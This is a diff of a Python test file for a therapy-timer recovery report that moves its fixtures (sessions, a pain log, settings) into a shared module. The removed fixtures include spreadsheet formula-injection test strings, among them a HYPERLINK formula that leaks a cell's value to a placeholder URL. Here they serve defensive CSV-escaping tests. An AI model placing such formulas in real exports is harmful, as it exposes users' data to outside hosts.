@@ -5,80 +5,14 @@ from __future__ import annotations
 
 import csv
 import io
-import itertools
-from datetime import datetime
 
 import pytest
-from freezegun import freeze_time
 
-from tests.helpers import BERLIN, T0, H, M, local
+from tests.fixtures.report import FORMULAS, LOG, MON, NOW, PLAN, SETTINGS, TIMELINE, TUE, logged, page_of
+from tests.helpers import BERLIN, H, M, local
 from therapy_timer import recovery_report, report_text, signs
-from therapy_timer.protocol import Phase, Plan, Session, Switch, Timeline
+from therapy_timer.protocol import Plan, Switch, Timeline
 from therapy_timer.store import LoggedEvent, StoredPlan
-
-MON = local(2026, 11, 23, 0, 0)
-TUE = MON + 24 * H
-NOW = TUE + 9 * H + 30 * M  # Tue 24 Nov 09:30
-
-
-IDS = itertools.count(1)
-
-
-def logged(at: datetime, kind: str, score: int | None = None, text: str | None = None, session: str | None = None):
-    return LoggedEvent(next(IDS), 1, at, kind, score, text, session, None, at, "command")
-
-
-def session(kind: str, start: datetime, minutes: int = 15, cut_short: bool = False) -> Session:
-    return Session(kind, start, start + minutes * M, cut_short=cut_short)  # type: ignore[arg-type]
-
-
-# Monday: ice 09:00 done, ice 11:00 skipped, walk 12:00 never answered (missed), ice 13:00 done
-# (a later skip does not count: a session is answered once). Tuesday: heat 09:00, cut at 09:05
-# because it made things worse (counts as done: the heat was on), ice 09:20 still running at 09:30
-# and a walk at 12:00 (both to come).
-ICE_9, ICE_11, WALK_12, ICE_13 = (
-    session("ice", MON + 9 * H),
-    session("ice", MON + 11 * H),
-    session("walk", MON + 12 * H, 5),
-    session("ice", MON + 13 * H),
-)
-HEAT, ICE_TUE, WALK_TUE = (
-    session("heat", TUE + 9 * H, 5, cut_short=True),
-    session("ice", TUE + 9 * H + 20 * M),
-    session("walk", TUE + 12 * H, 5),
-)
-TIMELINE = Timeline(
-    [ICE_9, ICE_11, WALK_12, ICE_13, HEAT, ICE_TUE, WALK_TUE],
-    [
-        Phase("cold", MON + 9 * H, TUE + 9 * H, "plan-start"),
-        Phase("heat", TUE + 9 * H, TUE + 9 * H + 5 * M, "cold-over"),
-        Phase("cold", TUE + 9 * H + 5 * M, None, "heat-worse"),
-    ],
-    [Switch(TUE + 9 * H + 5 * M, "heat-worse")],
-)
-PLAN = StoredPlan(1, Plan(MON + 8 * H, MON + 9 * H), None, "Europe/Berlin")
-LOG = [
-    logged(MON + 9 * H, "plan-start", text="injured x"),
-    logged(MON + 9 * H + 10 * M, "pain", 7),
-    logged(MON + 9 * H + 16 * M, "done", session=ICE_9.key),
-    logged(MON + 11 * H + 2 * M, "skip", session=ICE_11.key),
-    logged(MON + 12 * H, "pain", 8, "sharp when I stand up"),
-    logged(MON + 13 * H + 15 * M, "done", session=ICE_13.key),
-    logged(MON + 13 * H + 16 * M, "skip", session=ICE_13.key),
-    logged(MON + 14 * H, "heat-no-help"),  # in a cold phase: recorded, changes nothing
-    logged(MON + 15 * H, "symptom", text="tingling down my left leg"),
-    logged(MON + 20 * H, "pain", 5),
-    logged(MON + 21 * H, "note", text="slept on the floor <b>badly</b>"),
-    logged(TUE + 8 * H, "pain", 6),
-    logged(TUE + 8 * H + 30 * M, "symptom", text="a bit stiff"),
-    logged(TUE + 9 * H + 5 * M, "heat-worse"),
-]
-SETTINGS = [(MON + 9 * H, "cold.minutes = 15\nheat.minutes = 15")]
-
-
-@pytest.fixture
-def made() -> recovery_report.Report:
-    return recovery_report.build(PLAN, TIMELINE, LOG, SETTINGS, NOW, BERLIN)
 
 
 def test_each_day_counts_planned_done_skipped_missed_and_to_come(made):
@@ -239,21 +173,6 @@ def test_every_line_of_the_text_table_fits_80_columns(made):
 # Through the store and the real protocol -------------------------------------------------------------
 
 
-# The command ---------------------------------------------------------------------------------------
-
-
-@pytest.fixture
-def recorded(run):
-    with freeze_time(T0):
-        run("start", "--no-daemon")
-    with freeze_time(T0 + 20 * M):
-        run("log", "pain", "7")
-        run("done")
-    with freeze_time(T0 + 3 * H):
-        run("log", "pain", "4", "--note", "better after the walk")
-    return run
-
-
 # CSV -------------------------------------------------------------------------------------------------
 
 
@@ -277,19 +196,6 @@ def test_csv_has_a_header_and_one_row_per_event_in_local_time_with_the_text_as_r
     ]
 
 
-FORMULAS = [
-    "-2 after the walk",
-    "+1",
-    '=HYPERLINK("https://example.org/?leak="&A1,"click")',
-    "@SUM(1)",
-    "\t=1+1",
-    "\r=1+1",
-    "pain 4, -2 since the heat",  # a cell that starts after a separator
-    "fine;=1+1",
-    'said "=1+1"',
-]
-
-
 @pytest.mark.parametrize("text", FORMULAS)
 def test_a_free_text_cell_a_spreadsheet_would_read_as_a_formula_starts_with_a_single_quote(text):
     assert report_text.defused(text) == "'" + text
@@ -301,12 +207,6 @@ def test_free_text_that_is_no_formula_is_left_as_it_is(text):
 
 
 # HTML ------------------------------------------------------------------------------------------------
-
-
-def page_of(made: recovery_report.Report) -> str:
-    from therapy_timer import report_html
-
-    return report_html.page(made, BERLIN)
 
 
 def test_the_chart_has_one_point_per_pain_score_where_the_time_and_score_put_it(made):
